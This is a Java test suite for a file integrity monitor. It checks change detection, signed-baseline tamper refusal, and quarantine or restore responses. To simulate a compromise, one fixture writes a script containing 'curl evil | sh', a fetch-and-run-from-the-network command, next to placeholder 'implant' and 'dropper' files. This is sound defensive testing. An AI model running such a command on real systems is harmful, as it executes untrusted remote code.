package io.palisade.agent.fim;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.spec.ECGenParameterSpec;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class IntegrityMonitorTest {

    @TempDir
    Path dir;

    private Path root;
    private KeyPair key;

    @BeforeEach
    void tree() throws Exception {
        root = dir.resolve("opt/app");
        Files.createDirectories(root.resolve("bin"));
        Files.writeString(root.resolve("bin/app"), "#!/bin/sh\necho hello\n");
        Files.setPosixFilePermissions(root.resolve("bin/app"), PosixFilePermissions.fromString("rwxr-xr-x"));
        Files.writeString(root.resolve("app.conf"), "port=8080\n");
        Files.writeString(root.resolve("keep.txt"), "unchanged\n");
        KeyPairGenerator generator = KeyPairGenerator.getInstance("EC");
        generator.initialize(new ECGenParameterSpec("secp256r1"));
        key = generator.generateKeyPair();
    }

    private Baseline baseline() throws Exception {
        return new Baseline(root.toString(), Instant.now(), FileScanner.scan(root));
    }

    @Test
    void a_full_scan_names_every_added_removed_and_modified_file_with_what_changed() throws Exception {
        Baseline baseline = baseline();
        Files.writeString(root.resolve("app.conf"), "port=4444\n");
        Files.setPosixFilePermissions(root.resolve("keep.txt"), PosixFilePermissions.fromString("rwxrwxrwx"));
        Files.delete(root.resolve("bin/app"));
        Files.writeString(root.resolve("bin/implant"), "evil");

        List<FileChange> changes = baseline.compare(FileScanner.scan(root));
        assertThat(changes).extracting(c -> c.kind() + " " + c.path()).containsExactly(
                "MODIFIED app.conf", "REMOVED bin/app", "ADDED bin/implant", "MODIFIED keep.txt");
        assertThat(changes.get(0).changedAttributes()).contains("sha256").doesNotContain("mode", "size");
        assertThat(changes.get(3).changedAttributes()).containsExactly("mode");
        assertThat(changes.get(3).describe()).contains("mode 0644").contains("mode 0777");
    }

    @Test
    void the_baseline_is_signed_and_a_changed_baseline_is_refused() throws Exception {
        byte[] signed = baseline().sign(key.getPrivate());
        assertThat(Baseline.verify(signed, key.getPublic()).files()).containsKeys("app.conf", "bin/app", "keep.txt");

        String text = new String(signed, StandardCharsets.UTF_8);
        String body = text.replaceAll(".*\"baseline\":\"([^\"]+)\".*", "$1");
        String forged = new String(java.util.Base64.getDecoder().decode(body), StandardCharsets.UTF_8)
                .replace("\"path\":\"app.conf\"", "\"path\":\"app.conf.hidden\"");
        assertThat(forged).contains("app.conf.hidden");
        byte[] tampered = text.replace(body, java.util.Base64.getEncoder().encodeToString(
                forged.getBytes(StandardCharsets.UTF_8))).getBytes(StandardCharsets.UTF_8);
        assertThatThrownBy(() -> Baseline.verify(tampered, key.getPublic())).hasMessageContaining("does not verify");
        assertThatThrownBy(() -> Baseline.verify("{".getBytes(), key.getPublic())).hasMessageContaining("malformed");
    }

    @Test
    void changes_are_seen_in_real_time_once_each_and_a_quarantined_file_cannot_run() throws Exception {
        List<FileChange> seen = new CopyOnWriteArrayList<>();
        try (IntegrityMonitor monitor = new IntegrityMonitor(root, baseline(), Duration.ofMinutes(10), seen::add)) {
            Files.writeString(root.resolve("bin/app"), "#!/bin/sh\ncurl evil | sh\n");
            await().atMost(Duration.ofSeconds(10)).until(() -> seen.stream().anyMatch(c -> c.path().equals("bin/app")));
            Files.createDirectories(root.resolve("lib"));
            Files.writeString(root.resolve("lib/dropper.so"), "x");
            await().atMost(Duration.ofSeconds(10)).until(() -> seen.stream()
                    .anyMatch(c -> c.path().equals("lib/dropper.so") && c.kind() == FileChange.Kind.ADDED));
            long reports = seen.stream().filter(c -> c.path().equals("bin/app")).count();
            monitor.fullScan();
            assertThat(seen.stream().filter(c -> c.path().equals("bin/app"))).as("not reported again by a full scan")
                    .hasSize((int) reports);
            assertThat(reports).as("one write, one report (truncate and write are coalesced)").isEqualTo(1);
        }
        FileChange implant = seen.stream().filter(c -> c.path().equals("bin/app")).findFirst().orElseThrow();
        Path quarantine = dir.resolve("quarantine");
        String done = FileResponse.QUARANTINE.apply(implant, root, quarantine);
        assertThat(root.resolve("bin/app")).doesNotExist();
        assertThat(done).contains("read-only, 0400");
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(quarantine))).isEqualTo("rwx------");
        try (var moved = Files.list(quarantine)) {
            Path file = moved.findFirst().orElseThrow();
            assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(file))).isEqualTo("r--------");
            assertThat(Files.readString(file)).contains("curl evil");
        }
    }

    @Test
    void a_mode_only_change_is_put_back_never_moved_and_the_monitor_does_not_report_its_own_response() throws Exception {
        List<String> responses = new CopyOnWriteArrayList<>();
        List<FileChange> seen = new CopyOnWriteArrayList<>();
        Path quarantine = dir.resolve("quarantine");
        try (IntegrityMonitor monitor = new IntegrityMonitor(root, baseline(), Duration.ofMinutes(10), change -> {
            seen.add(change);
            try {
                responses.add(FileResponse.QUARANTINE.apply(change, root, quarantine));
            } catch (java.io.IOException e) {
                responses.add("failed: " + e.getMessage());
            }
        })) {
            Files.setPosixFilePermissions(root.resolve("bin/app"), PosixFilePermissions.fromString("rwxrwxrwx"));
            await().atMost(Duration.ofSeconds(10)).until(() -> !responses.isEmpty());
            assertThat(responses.get(0)).isEqualTo("restored mode 0755 (was 0777); content intact, nothing moved");
            assertThat(root.resolve("bin/app")).exists();
            assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(root.resolve("bin/app"))))
                    .isEqualTo("rwxr-xr-x");
            assertThat(quarantine).doesNotExist();
            Thread.sleep(1_000); // the restore's own notification has come and gone
            monitor.fullScan();
            assertThat(seen).as("the restore is not a new change").hasSize(1);
        }
    }

    @Test
    void a_file_moved_to_quarantine_is_not_reported_again_as_removed() throws Exception {
        List<FileChange> seen = new CopyOnWriteArrayList<>();
        List<FileChange> responded = new CopyOnWriteArrayList<>();
        Path quarantine = dir.resolve("quarantine");
        try (IntegrityMonitor monitor = new IntegrityMonitor(root, baseline(), Duration.ofMinutes(10), change -> {
            seen.add(change);
            try {
                FileResponse.QUARANTINE.apply(change, root, quarantine);
            } catch (java.io.IOException e) {
                throw new java.io.UncheckedIOException(e);
            }
            responded.add(change);
        })) {
            Files.writeString(root.resolve("app.conf"), "port=4444\n");
            // Until the response is done, not only seen: the move comes after the change is recorded (CI once
            // checked for the file in between).
            await().atMost(Duration.ofSeconds(10)).until(() -> !responded.isEmpty());
            assertThat(root.resolve("app.conf")).doesNotExist();
            Thread.sleep(1_000); // the move's own notification has come and gone
            monitor.fullScan();
            assertThat(seen).extracting(c -> c.kind() + " " + c.path()).containsExactly("MODIFIED app.conf");
        }
    }
}
